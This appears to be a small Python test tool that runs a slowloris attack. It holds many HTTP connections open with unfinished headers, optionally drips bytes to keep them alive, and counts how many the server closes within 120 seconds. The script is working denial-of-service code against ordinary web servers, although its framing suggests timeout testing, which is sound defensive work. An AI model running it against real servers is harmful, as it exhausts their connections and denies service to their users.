#!/usr/bin/env python3
"""Holds connections open without finishing a request (slowloris):
slowloris.py HOST PORT N [drip]. Opens N connections, sends each the start of a
GET /healthz without the blank line that ends its headers, prints "holding N",
then "closed K" each time the server ends one of them, and exits once it ended
them all (or after 120 s). With drip, every connection sends one more byte of
a header a second, so that it is never idle."""
import select
import socket
import sys
import time

host, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
drip = sys.argv[4:] == ["drip"]
partial = ("GET /healthz HTTP/1.1\r\nHost: %s\r\nX-Slow: " % host).encode()

conns = []
for _ in range(n):
    s = socket.create_connection((host, port), timeout=10)
    s.sendall(partial)
    conns.append(s)
print("holding %d" % n, flush=True)

closed = 0
deadline = time.monotonic() + 120
while conns and time.monotonic() < deadline:
    readable, _, _ = select.select(conns, [], [], 1.0)
    for s in conns if drip else ():
        try:
            s.send(b"a")
        except OSError:
            pass  # ended: select sees it
    for s in readable:
        try:
            data = s.recv(4096)
        except OSError:
            data = b""
        if data:
            continue  # an answer (408, say): the end follows
        conns.remove(s)
        s.close()
        closed += 1
        print("closed %d" % closed, flush=True)
